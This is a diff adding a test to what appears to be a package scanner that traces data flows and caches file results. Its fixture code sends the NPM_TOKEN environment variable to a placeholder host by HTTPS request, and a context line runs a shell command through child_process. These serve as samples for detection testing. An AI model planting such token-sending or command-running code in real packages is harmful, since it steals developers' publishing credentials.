@@ -26,6 +26,16 @@ describe('facts of files that were read before', () => {
     expect(profilePackage({ files: now }, undefined, cache).value.flows).not.toEqual([]);
   });
 
+  test('what another version made of a file\'s neighbours is not in it any more', () => {
+    const index = "const { pick } = require('./pick');\nrequire('https').request('https://a.example.invalid/' + pick(process.env.NPM_TOKEN, 'x'));\n";
+    const whole = packed({ name: 'a', main: 'index.js' }, { 'index.js': index, 'pick.js': 'exports.pick = (a, b) => a;\n' });
+    const other = packed({ name: 'a', main: 'index.js' }, { 'index.js': index, 'pick.js': 'exports.pick = (a, b) => b;\n' });
+    const without = packed({ name: 'a', main: 'index.js' }, { 'index.js': index });
+    const cache = createFileCache(1_000_000);
+    for (const files of [whole, other, without, whole, other]) expect(profilePackage({ files }, undefined, cache)).toEqual(profilePackage({ files }));
+    expect([whole, other].map((files) => profilePackage({ files }, undefined, cache).value.flows.length > 0)).toEqual([true, false]);
+  });
+
   test('the same text at another path, or read as another kind of module, is another file', () => {
     const text = 'with (x) { require("child_process").exec("id"); }\n';
     const cache = createFileCache(1_000_000);
